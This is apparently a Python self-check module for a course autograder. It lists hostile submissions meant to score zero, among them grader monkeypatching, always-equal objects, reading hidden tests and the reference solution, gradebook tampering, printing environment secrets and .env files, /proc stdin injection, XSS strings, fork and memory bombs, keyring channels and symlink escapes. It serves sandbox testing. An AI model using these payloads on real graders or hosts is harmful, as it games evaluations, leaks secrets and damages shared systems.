"""Known attacks on the grader for the self-check: hostile submissions, each worth 0.

Each attack is the untouched student edition plus hostile code appended to a learner
file, or learner files replaced by links out of the submission. Any point one scores is
a point stolen; the self-check also proves that none leaves anything behind: no secret
in its feedback, no process, no kernel object, no memory taken from the host.
"""

from __future__ import annotations

from grading.selfcheck.mistakes import EVERYTHING, SCORING, F, G, J, P, R, S, Submission

# Attacks on the grader: each is the untouched student edition (worth 0) plus hostile code
# run when code/scoring.py is imported or called. Any point it scores is a point stolen.
# __ROOT__, __COURSE__, __FOLDER__ and __PORT__ are filled in when the self-check builds it.
_STOLEN = (
    "    src = open('__ROOT__/code/scoring.py').read()\n"
    "    exec(compile(src, 'scoring.py', 'exec'), globals())\n"
)
ATTACKS = {
    "monkeypatch-checks": (
        "import sys\nmain = sys.modules.get('__main__')\n"
        "for name in ('answer', 'number', 'judge_numbers', 'run_cell', 'check_cases'):\n"
        "    for module in list(sys.modules.values()):\n"
        "        if hasattr(module, name):\n"
        "            setattr(module, name, lambda *a, **k: {'value': 1.0})\n"
        "import math\nmath.isclose = lambda *a, **k: True\n"
    ),
    "frame-inspection": (
        "def recency_score(now, last_accessed, decay_rate=0.995):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for key in ('expected', 'case', 'cases'):\n"
        "            if key in frame.f_locals:\n"
        "                value = frame.f_locals[key]\n"
        "                return getattr(value, 'expected', value)\n"
        "        frame = frame.f_back\n"
        "    return 0.0\n"
    ),
    "always-equal": (
        "class Anything(float):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = float.__hash__\n"
        "def importance_score(importance):\n    return Anything(0.0)\n"
        "def relevance_score(q, m):\n"
        "    class Weird:\n        def __eq__(self, other):\n            return True\n"
        "    return Weird()\n"
    ),
    "reads-solution-and-hidden-tests": (
        "for path in ('__ROOT__/code/scoring.py',\n"
        "             '__COURSE__/source/milestones/code/scoring.py'):\n"
        "    try:\n"
        "        exec(compile(open(path).read(), 'scoring.py', 'exec'), globals())\n"
        "        break\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n    HIDDEN = open('__COURSE__/gradebook.db', 'rb').read()\n"
        "except OSError:\n    pass\n"
    ),
    "writes-gradebook-and-locks-it": (
        "try:\n"
        "    import sqlite3\n"
        "    db = sqlite3.connect('__COURSE__/gradebook.db', timeout=1)\n"
        "    db.execute('UPDATE grade SET auto_score = 99')\n"
        "    db.commit()\n"
        "    if os.fork() == 0:\n"
        "        db2 = sqlite3.connect('__COURSE__/gradebook.db')\n"
        "        db2.execute('BEGIN EXCLUSIVE')\n"
        "        time.sleep(30)\n"
        "        os._exit(0)\n"
        "except Exception:\n    pass\n"
    ),
    "surviving-child": (
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "    signal.signal(signal.SIGHUP, signal.SIG_IGN)\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(4)\n"
        "        try:\n"
        "            open('__COURSE__/memory-lab-grades.csv', 'w')"
        ".write('student_id,total\\nstolen,999\\n')\n"
        "        finally:\n"
        "            time.sleep(60)\n"
        "    os._exit(0)\n"
    ),
    "overwrites-classmate": (
        "try:\n"
        "    open('__FOLDER__/reference/code/scoring.py', 'w').write('raise SystemExit')\n"
        "except OSError:\n    pass\n"
    ),
    "early-exit": "def importance_score(importance):\n    os._exit(0)\n",
    "injects-into-classmates": (
        'forged = b\'{"function": "importance_score", "args": [1], "kwargs": {}}\\n\'\n'
        "for pid in os.listdir('/proc'):\n"
        "    if not pid.isdigit() or int(pid) == os.getpid():\n"
        "        continue\n"
        "    try:\n"
        "        if b'worker.py' in open(f'/proc/{pid}/cmdline', 'rb').read():\n"
        "            with open(f'/proc/{pid}/fd/0', 'wb') as stdin:\n"
        "                stdin.write(forged * 50)\n"
        "    except OSError:\n"
        "        pass\n"
    ),
    "forged-replies": (
        "def recency_score(now, last_accessed, decay_rate=0.995):\n"
        "    for fd in range(3, 16):\n"
        "        try:\n"
        "            os.write(fd, b'[' * 200000 + b'\\n{\"value\": 1.0}\\n')\n"
        "        except OSError:\n"
        "            pass\n"
        "    return 1.0\n"
    ),
    "html-injection": (
        "Bad = type('<script>alert(1)</script>', (Exception,), {})\n"
        "def importance_score(importance):\n"
        "    raise Bad('<script>alert(2)</script><img src=x onerror=alert(3)>')\n"
        "def recency_score(now, last_accessed, decay_rate=0.995):\n"
        "    return '<script>alert(4)</script>'\n"
    ),
    "prints-secrets": (
        "import sys\n"
        "secret = ' '.join(f'{k}={v}' for k, v in os.environ.items())\n"
        "for path in ('__ROOT__/.env', os.path.expanduser('~/.env')):\n"
        "    try:\n        secret += open(path).read()\n    except OSError:\n        pass\n"
        "print(secret)\nprint(secret, file=sys.stderr)\n"
        "def importance_score(importance):\n    raise ValueError(secret)\n"
    ),
    "loopback-connection": (
        "import socket\n"
        "try:\n"
        "    socket.create_connection(('127.0.0.1', __PORT__), timeout=1).sendall(b'stolen')\n"
        "except OSError:\n    pass\n"
    ),
    "huge-output": "import sys\nsys.stdout.write('x' * (64 << 20))\n",
    "hang-ignoring-sigint": (
        "def recency_score(now, last_accessed, decay_rate=0.995):\n"
        "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "    while True:\n        pass\n"
    ),
    "fork-bomb-and-memory": (
        "def relevance_score(q, m):\n"
        "    children = 0\n"
        "    try:\n"
        "        while children < 200:\n"
        "            if os.fork() == 0:\n"
        "                time.sleep(30)\n                os._exit(0)\n"
        "            children += 1\n"
        "    except OSError:\n        pass\n"
        "    hog = bytearray(4 << 30)\n"
        "    return 0.0\n"
    ),
}
HEADER = "\nimport os, signal, sys, time  # the attack's own imports\n"
ATTACK_SUBMISSIONS = [
    Submission(f"attack-{name}", frozenset(EVERYTHING), "", solved=(), attack=HEADER + code)
    for name, code in ATTACKS.items()
]

# The answer to each call is made of the previous call's inputs: a hidden input would show
# as the "got" of a later public case, if hidden cases ran before it in the same worker.
ECHO = """
SEEN = [0.0]


def _numbers(value):
    if isinstance(value, dict):
        value = list(value.values())
    if isinstance(value, (list, tuple)):
        return [x for item in value for x in _numbers(item)]
    if isinstance(value, (int, float)) and not isinstance(value, bool) and abs(value) < 1e300:
        return [float(value)]
    return []


def echo_value(args, kwargs):
    return float(sum(_numbers([list(args), kwargs])))


def _echo(*args, **kwargs):
    SEEN.append(echo_value(args, kwargs))
    return SEEN[-2]


recency_score = importance_score = relevance_score = _echo
retrieval_score = kind_recency_score = _echo
"""
# A retriever that raises from "lines of /learner/scoring.py": in the Milestone 4 run there
# is no such file (its scoring is the parent's proxy), and a crash line read from a file of
# that name must never be quoted.
CRAFTED = """
import os as _os

try:
    _REFERENCE = open('/learner/scoring.py').read().splitlines()
except OSError:
    _REFERENCE = []
_TARGETS = [n + 1 for n, line in enumerate(_REFERENCE) if line.strip().startswith('return ')]
_CALLS = []


def _crafted(*args, **kwargs):
    line = (_TARGETS or [1])[len(_CALLS) % max(1, len(_TARGETS))]
    _CALLS.append(line)
    exec(compile('\\n' * (line - 1) + 'raise ValueError()', '/learner/scoring.py', 'exec'))


rank_memories = retrieve = retrieve_by_kind = _crafted
"""
# Every function sleeps just under the case timeout: the submission's budget must stop it.
SLOW = """
def _slow(*args, **kwargs):
    time.sleep(4.7)
    return 0.0


recency_score = importance_score = relevance_score = retrieval_score = _slow
kind_recency_score = _slow
"""
# A table of the student edition's public answers (TABLE is filled in by the self-check).
TABLE = """
import json as _json

_TABLE = __TABLE__


def _looked_up(name):
    def function(*args, **kwargs):
        key = _json.dumps([name, list(args), kwargs], sort_keys=True)
        return _TABLE.get(key, 0.0)

    return function


for _name in ('recency_score', 'importance_score', 'relevance_score', 'retrieval_score',
              'kind_recency_score'):
    globals()[_name] = _looked_up(_name)
"""
TABLE_RETRIEVER = """
import json as _json
from collections import namedtuple as _namedtuple

_TABLE = __STORES__
_Row = _namedtuple('_Row', 'memory relevance recency importance score')


def _key(name, store, k, kwargs):
    return _json.dumps([name, [m.id for m in store], k, kwargs], sort_keys=True)


def rank_memories(store, query_embedding, now, **kwargs):
    ids = _TABLE.get(_key('rank_memories', store, None, kwargs), [])
    return [_Row(store.get(i), 0.8, 0.995, 0.5, 2.295) for i in ids]


def retrieve(store, query_embedding, now, k=5, **kwargs):
    name = 'retrieve_by_kind' if 'half_lives' in kwargs else 'retrieve'
    top = [store.get(i) for i in _TABLE.get(_key(name, store, k, kwargs), [])]
    for memory in top:
        memory.last_accessed = now
    return top


retrieve_by_kind = retrieve
"""
ATTACK_SUBMISSIONS += [
    Submission("attack-hidden-input-echo", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + ECHO),
    Submission("attack-crafted-traceback", frozenset(EVERYTHING), "", solved=(),
               retriever_attack=HEADER + CRAFTED),
    Submission("attack-public-answer-table", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + TABLE, retriever_attack=HEADER + TABLE_RETRIEVER),
    Submission("attack-slow-on-purpose", frozenset(EVERYTHING), "time budget", solved=(),
               attack=HEADER + SLOW, most_seconds=75.0),
]  # fmt: skip

# Kernel channels that outlive a sandbox, graded one at a time (one slot, so one uid) in a
# batch of their own, with the host's memory watched. The keyring pair: the first stores
# whatever reference scoring.py its Milestone 4 run can read (none: that run's scoring is
# the parent's proxy) in the uid's keyring; the second, and the first when regraded, would
# load it from there as their own scoring.
KEY_READER = """
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_key = _libc.syscall(250, 10, -4, b'user', b'memory-lab-reference', 0)  # KEYCTL_SEARCH @u
if _key > 0:
    _buffer = _ctypes.create_string_buffer(1 << 16)
    _size = _libc.syscall(250, 11, _key, _buffer, 1 << 16)  # KEYCTL_READ
    if _size > 0:
        exec(compile(_buffer.raw[:_size], 'scoring.py', 'exec'), globals())
"""
KEY_WRITER = """
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
try:
    _data = open('/learner/scoring.py', 'rb').read()  # the reference, in the Milestone 4 run
except OSError:
    _data = b''
if _data and b'NotImplementedError()' not in _data:
    _libc.syscall(248, b'user', b'memory-lab-reference', _data, len(_data), -4)  # add_key @u
"""
SHARED_MEMORY_BOMB = """
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
for _ in range(6):  # 6 x 256 MB, each detached at once: RLIMIT_AS never sees them together
    _id = _libc.shmget(0, 256 << 20, 0o1600)
    if _id < 0:
        break
    _at = _libc.shmat(_id, None, 0)
    if not _at or _at == _ctypes.c_void_p(-1).value:
        break
    _ctypes.memset(_at, 1, 256 << 20)
    _libc.shmdt(_ctypes.c_void_p(_at))
time.sleep(3)
"""
TMPFS_BOMB = """
_blob, _written = b'x' * (1 << 20), 0
for _folder in ('/tmp', '/dev/shm', '/', '/dev', '/learner'):
    for _n in range(1536):
        if _written >= 1536:
            break
        try:
            with open(f'{_folder}/bomb{_n}', 'wb') as _file:
                _file.write(_blob)
            _written += 1
        except OSError:
            break
time.sleep(3)
"""
MEMORY_IN_PROCESSES = """
for _ in range(6):  # 6 x 600 MB, each process under RLIMIT_AS: only a cgroup sees the sum
    if os.fork() == 0:
        try:
            _hog = bytearray(600 << 20)
            for _i in range(0, len(_hog), 4096):
                _hog[_i] = 1
        except MemoryError:
            pass
        time.sleep(4)
        os._exit(0)
time.sleep(3)
"""
KEYRING_FIRST = Submission(
    "attack-keyring-1-stores-the-reference",
    frozenset(SCORING),
    "",
    solved=(R, P, F, G, J),
    attack=HEADER + KEY_READER,
    retriever_attack=HEADER + KEY_WRITER,
)
KERNEL = [
    KEYRING_FIRST,
    Submission("attack-keyring-2-loads-it", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + KEY_READER),
    Submission("attack-shared-memory-bomb", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + SHARED_MEMORY_BOMB),
    Submission("attack-tmpfs-bomb", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + TMPFS_BOMB),
    Submission("attack-memory-in-many-processes", frozenset(EVERYTHING), "", solved=(),
               attack=HEADER + MEMORY_IN_PROCESSES),
]  # fmt: skip
LINKS = [
    Submission(
        "attack-symlinked-files",
        frozenset(EVERYTHING),
        "refused",
        solved=(),
        links={S: "__ROOT__/code/scoring.py", R: "/proc/self/cwd/code/retriever.py"},
    ),
    Submission(
        "attack-symlinked-code-folder",
        frozenset(EVERYTHING),
        "symlinked",
        solved=(),
        links={"code": "__ROOT__/code"},
    ),
    Submission(  # the optional milestones' folder a link to the reference's: read nothing
        "attack-symlinked-practice-folder",
        frozenset(EVERYTHING),
        "its folder is a symbolic link",
        solved=(),
        links={"code/practice": "__ROOT__/code/practice"},
    ),
]
# Graded once with full marks (written straight into the gradebook), then resubmitted
# with a scoring.py that kills its worker: the regrade must start from zero.
RESUBMITTED = Submission(
    "attack-resubmit-after-crash",
    frozenset(SCORING),
    "",
    solved=(R, P, F, G, J),
    attack=HEADER + "os._exit(0)\n",
)
